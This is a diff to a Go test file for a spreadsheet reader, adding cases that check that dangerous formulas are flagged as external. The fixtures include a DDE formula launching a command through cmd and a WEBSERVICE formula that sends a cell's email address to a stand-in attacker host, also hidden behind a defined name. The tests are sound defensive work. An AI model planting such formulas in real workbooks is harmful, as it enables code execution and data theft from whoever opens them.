@@ -133,6 +133,7 @@ func TestFormulaCells(t *testing.T) {
 		{"calculated", `<c r="C2" t="str"><f>LOWER("ADA@EXAMPLE.COM")</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.Calculated},
 		{"never calculated", `<c r="C2"><f>LOWER(Z2)</f></c>`, "", workbook.Uncalculated},
 		{"DDE", `<c r="C2" t="str"><f>cmd|'/c calc'!A1</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
+		{"web service under Excel's _xlfn prefix", `<c r="C2" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A2)</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
 		{"external workbook", `<c r="C2" t="str"><f>[1]Sheet1!A1</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
 		{"pipe inside a text is not DDE", `<c r="C2" t="str"><f>"a|b"&amp;"@x.com"</f><v>a|b@x.com</v></c>`, "a|b@x.com", workbook.Calculated},
 		{"table reference", `<c r="C2" t="str"><f>Table1[@Email]</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.Calculated},
@@ -147,6 +148,39 @@ func TestFormulaCells(t *testing.T) {
 			got := rows[0].Cells[template.Email]
 			if got.Value != c.value || got.Formula != c.formula || got.Col != "C" {
 				t.Fatalf("got %+v, want %q formula %d", got, c.value, c.formula)
+			}
+		})
+	}
+}
+
+// TestFormulaCallingOutThroughADefinedName: =Evil runs DDE when the workbook
+// defines Evil as cmd|'/c calc'!A1, whatever the cell's cached value says.
+func TestFormulaCallingOutThroughADefinedName(t *testing.T) {
+	base := writeClients(t, 1, true)
+	withNames := editPart(t, base, "xl/workbook.xml", func(b []byte) []byte {
+		i := bytes.Index(b, []byte(`</sheets>`)) + len(`</sheets>`)
+		names := `<definedNames><definedName name="Evil">cmd|'/c calc'!A1</definedName><definedName name="Tax">Clients!$A$1*0.2</definedName></definedNames>`
+		return append(append(bytes.Clone(b[:i]), names...), b[i:]...)
+	})
+	for _, c := range []struct {
+		name, formula string
+		want          workbook.Formula
+	}{
+		{"the calling name", `Evil`, workbook.External},
+		{"the calling name in another case, inside a formula", `LOWER(evil)&amp;""`, workbook.External},
+		{"a harmless name", `Tax&amp;""`, workbook.Calculated},
+		{"a longer name that contains it", `Evil2&amp;""`, workbook.Calculated},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			data := editPart(t, withNames, sheetPart, func(b []byte) []byte {
+				i := bytes.Index(b, []byte(`<c r="C2"`))
+				j := i + bytes.Index(b[i:], []byte(`</c>`)) + len(`</c>`)
+				cell := `<c r="C2" t="str"><f>` + c.formula + `</f><v>ada@example.com</v></c>`
+				return append(append(bytes.Clone(b[:i]), cell...), b[j:]...)
+			})
+			_, rows := readAll(t, writeBytes(t, "c.xlsx", data))
+			if got := rows[0].Cells[template.Email].Formula; got != c.want {
+				t.Fatalf("formula kind %d, want %d", got, c.want)
 			}
 		})
 	}
